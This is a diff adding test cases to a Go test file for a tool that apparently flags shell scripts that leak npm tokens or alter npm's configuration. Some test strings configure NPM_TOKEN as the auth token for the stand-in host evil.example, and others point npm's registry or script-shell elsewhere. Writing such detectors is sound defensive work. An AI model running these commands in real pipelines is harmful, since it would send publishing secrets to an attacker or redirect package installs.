@@ -145,6 +145,11 @@ func TestWrittenNpmrcJudgedByKeys(t *testing.T) {
 		{script: "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc\nnpm publish", understood: true, want: "registry.npmjs.org: npm sends secret NPM_TOKEN", noSecret: true},
 		{script: "echo \"//evil.example/:_authToken=$NPM_TOKEN\" > .npmrc\nnpm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
 		{script: "echo \"//registry.npmjs.org/:_authToken=${OTHER}\" > .npmrc\nnpm publish", want: "write, then run"},
+		// The same keys set with npm config set.
+		{script: "npm config set //registry.npmjs.org/:_authToken \"$NPM_TOKEN\" --location project\nnpm publish", understood: true, want: "npm publish", noSecret: true},
+		{script: "npm config set script-shell ./x.sh; npm test", understood: true, want: "sets npm's script-shell"},
+		{script: "npm config set registry=https://evil.example/; npm ci", understood: true, want: "sets npm's registry"},
+		{script: "npm config set //evil.example/:_authToken \"$NPM_TOKEN\"; npm publish", understood: true, want: "sets the token npm sends to evil.example"},
 		{script: "echo \"script-shell=${NPM_TOKEN}\" > .npmrc\nnpm test", want: "write, then run"},
 		{script: "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN:-x}\" > .npmrc\nnpm publish", want: "write, then run"},
 		{script: "printf 'registry=%s\\n' x > .npmrc; npm test", want: "write, then run"},
